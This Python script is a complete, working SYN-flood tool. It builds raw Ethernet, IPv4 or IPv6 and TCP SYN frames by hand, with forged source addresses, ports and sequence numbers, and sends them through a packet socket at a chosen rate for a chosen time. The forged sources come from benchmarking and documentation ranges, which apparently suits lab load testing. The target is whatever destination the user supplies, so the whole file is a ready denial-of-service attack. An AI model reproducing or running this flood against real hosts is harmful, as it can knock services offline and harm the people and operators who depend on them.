# SPDX-License-Identifier: BSD-3-Clause
"""A SYN flood from an interface of this host, from forged addresses, that ends by itself: flood.py IFACE MAC DST DPORT RATE SECONDS

Prints how many frames were sent. MAC is the destination's; sources are of 198.18.0.0/15 (RFC 2544) or 2001:db8:f::/48, each used once."""
import ipaddress
import socket
import struct
import sys
import time

BATCH = 64


def add(data):
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def fold(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Frames:
    """SYNs that differ in source, port and number; all else is made once."""

    def __init__(self, source_mac, mac, dst, dport):
        self.dst, self.v6 = ipaddress.ip_address(dst).packed, ":" in dst
        self.ether = bytes.fromhex(mac.replace(":", "")) + source_mac + (b"\x86\xdd" if self.v6 else b"\x08\x00")
        self.dport = dport
        self.options = bytes.fromhex("020405b40402080a0000000100000000 01030307".replace(" ", ""))
        self.length = 20 + len(self.options)

    def make(self, n):
        sport, seq = 1024 + n * 7919 % 60000, n * 2654435761 & 0xFFFFFFFF
        if self.v6:
            src = bytes.fromhex("20010db8000f") + struct.pack("!HQ", n & 0xFFFF, n)
            ip = struct.pack("!IHBB", 0x60000000, self.length, 6, 64) + src + self.dst
        else:
            src = struct.pack("!I", 0xC6120000 + n % 0x1FFFE + 1)
            head = struct.pack("!BBHHHBB", 0x45, 0, 20 + self.length, n & 0xFFFF, 0, 64, 6)
            ip = head + struct.pack("!H", fold(add(head + src + self.dst))) + src + self.dst
        tcp = struct.pack("!HHIIHH", sport, self.dport, seq, 0, self.length // 4 << 12 | 2, 64240)
        checksum = fold(add(src + self.dst) + 6 + self.length + add(tcp) + add(self.options))
        return self.ether + ip + tcp + struct.pack("!HH", checksum, 0) + self.options


def main():
    iface, mac, dst, dport, rate, seconds = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    frames = Frames(s.getsockname()[4], mac, dst, dport)
    sent, tried, began = 0, 0, time.monotonic()
    while (now := time.monotonic() - began) < seconds:
        due = min(int(now * rate) - tried, BATCH)
        if due <= 0:
            time.sleep(0.001)
            continue
        for _ in range(due):
            tried += 1
            try:
                s.send(frames.make(tried))
                sent += 1
            except OSError:  # the queue is full: the cable's end is slower
                pass
    print(sent)


if __name__ == "__main__":
    main()
